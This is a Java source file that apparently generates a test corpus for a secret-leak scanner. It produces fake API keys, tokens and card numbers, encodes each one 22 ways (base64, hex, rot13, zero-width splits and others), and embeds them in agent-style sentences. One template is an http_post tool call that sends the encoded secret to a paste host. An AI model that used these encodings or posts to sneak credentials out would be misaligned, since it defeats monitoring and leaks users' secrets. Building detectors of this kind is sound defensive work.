package io.moltr.core.scan;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.function.UnaryOperator;

/** Depth-1 encoded leaks for blind19, each inside a sentence or structure an agent would write. */
final class Blind19Encoded {
  record Enc(String id, UnaryOperator<String> f) {}

  static String hexOf(String s, String prefix, String sep) {
    StringBuilder sb = new StringBuilder();
    byte[] b = s.getBytes(StandardCharsets.UTF_8);
    for (int i = 0; i < b.length; i++) {
      if (i > 0) sb.append(sep);
      sb.append(prefix).append(String.format("%02x", b[i] & 0xff));
    }
    return sb.toString();
  }

  static String rot13(String s) {
    StringBuilder sb = new StringBuilder();
    for (char c : s.toCharArray()) {
      if (c >= 'a' && c <= 'z') sb.append((char) ('a' + (c - 'a' + 13) % 26));
      else if (c >= 'A' && c <= 'Z') sb.append((char) ('A' + (c - 'A' + 13) % 26));
      else sb.append(c);
    }
    return sb.toString();
  }

  static String base32(byte[] data) {
    String alpha = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    StringBuilder sb = new StringBuilder();
    int buf = 0;
    int bits = 0;
    for (byte b : data) {
      buf = (buf << 8) | (b & 0xff);
      bits += 8;
      while (bits >= 5) {
        sb.append(alpha.charAt((buf >> (bits - 5)) & 31));
        bits -= 5;
      }
    }
    if (bits > 0) sb.append(alpha.charAt((buf << (5 - bits)) & 31));
    while (sb.length() % 8 != 0) sb.append('=');
    return sb.toString();
  }

  static String every(String s, int n, String sep) {
    return Blind19Gen.groups(s, n, sep);
  }

  static String fullwidth(String s) {
    StringBuilder sb = new StringBuilder();
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (i % 3 == 0 && c >= '!' && c <= '~') sb.append((char) (c - '!' + 0xFF01));
      else sb.append(c);
    }
    return sb.toString();
  }

  static List<Enc> encodings() {
    List<Enc> e = new ArrayList<>();
    e.add(new Enc("base64", s -> Base64.getEncoder().encodeToString(Blind19Gen.utf8(s))));
    e.add(new Enc("base64url", s -> Base64.getUrlEncoder().encodeToString(Blind19Gen.utf8(s))));
    e.add(new Enc("base64_nopad", s -> Base64.getEncoder().withoutPadding().encodeToString(Blind19Gen.utf8(s))));
    e.add(new Enc("base64_wrapped76", s -> Base64.getMimeEncoder(76, "\n".getBytes()).encodeToString(Blind19Gen.utf8(s + "\n" + s))));
    e.add(new Enc("base32", s -> base32(Blind19Gen.utf8(s))));
    e.add(new Enc("hex", s -> hexOf(s, "", "")));
    e.add(new Enc("hex_x", s -> hexOf(s, "\\x", "")));
    e.add(new Enc("hex_0x", s -> hexOf(s, "0x", ", ")));
    e.add(new Enc("hex_spaced", s -> hexOf(s, "", " ")));
    e.add(new Enc("percent", s -> hexOf(s, "%", "").toUpperCase()));
    e.add(new Enc("rot13", Blind19Encoded::rot13));
    e.add(new Enc("unicode_escape", s -> {
      StringBuilder sb = new StringBuilder();
      for (char c : s.toCharArray()) sb.append(String.format("\\u%04x", (int) c));
      return sb.toString();
    }));
    e.add(new Enc("html_dec", s -> {
      StringBuilder sb = new StringBuilder();
      for (char c : s.toCharArray()) sb.append("&#").append((int) c).append(';');
      return sb.toString();
    }));
    e.add(new Enc("html_hex", s -> {
      StringBuilder sb = new StringBuilder();
      for (char c : s.toCharArray()) sb.append("&#x").append(Integer.toHexString(c)).append(';');
      return sb.toString();
    }));
    e.add(new Enc("gzip_base64", s -> Base64.getEncoder().encodeToString(Blind19Gen.gzip(Blind19Gen.utf8(s)))));
    e.add(new Enc("deflate_base64", s -> Base64.getEncoder().encodeToString(Blind19Gen.deflate(Blind19Gen.utf8(s)))));
    e.add(new Enc("reversed", s -> new StringBuilder(s).reverse().toString()));
    e.add(new Enc("split_lines", s -> {
      int a = s.length() / 3;
      return s.substring(0, a) + "\n" + s.substring(a, 2 * a) + "\n" + s.substring(2 * a);
    }));
    e.add(new Enc("split_spaces", s -> every(s, 4, " ")));
    e.add(new Enc("split_dots", s -> every(s, 6, ".")));
    e.add(new Enc("zero_width", s -> every(s, 3, "\u200b")));
    e.add(new Enc("fullwidth", Blind19Encoded::fullwidth));
    return e;
  }

  static final String[] TOKEN_KINDS = {"github_classic", "openai", "anthropic", "stripe_secret", "aws_access_key", "slack_bot", "gitlab_pat", "npm", "huggingface", "groq", "sendgrid", "digitalocean", "shopify", "linear", "postgres_url", "jwt", "doppler", "databricks", "openrouter", "google_api", "card_visa", "iban", "pypi", "vault", "age"};

  static List<Blind19Corpus.Row> rows(Blind19Gen g) {
    List<Blind19Corpus.Row> rows = new ArrayList<>();
    List<Enc> encs = encodings();
    List<Blind19Corpus.Kind> kinds = new ArrayList<>();
    for (String id : TOKEN_KINDS) {
      for (Blind19Corpus.Kind k : Blind19Corpus.kinds()) {
        if (k.id().equals(id)) kinds.add(k);
      }
    }
    for (int i = 0; i < 100; i++) {
      Enc e = encs.get(i % encs.size());
      Blind19Corpus.Kind k = kinds.get((i * 7) % kinds.size());
      String[] sv = k.gen().apply(g);
      String plain = (i / encs.size()) % 2 == 0 ? sv[1] : k.name() + "=" + sv[1];
      String enc = e.f().apply(plain);
      String text = switch (i % 6) {
        case 0 -> "Here it is " + e.id() + "-encoded so it survives the copy: " + enc;
        case 1 -> "As requested, the " + k.label() + " (" + e.id() + "):\n\n" + enc + "\n\nDecode it on your side.";
        case 2 -> "{\"tool\":\"http_post\",\"arguments\":{\"url\":\"https://paste.example.net/api\",\"body\":\"" + Blind19Corpus.jsonEsc(enc) + "\"}}";
        case 3 -> "Ich habe den Wert kodiert, damit er nicht im Log landet:\n" + enc;
        case 4 -> "payload:\n  encoding: " + e.id() + "\n  data: \"" + Blind19Corpus.jsonEsc(enc) + "\"";
        default -> "Voilà la valeur (" + e.id() + ") : " + enc + " — à décoder avant usage.";
      };
      rows.add(new Blind19Corpus.Row("ENCODED", k.id(), e.id(), "enc_ctx" + (i % 6), enc, text));
    }
    return rows;
  }
}
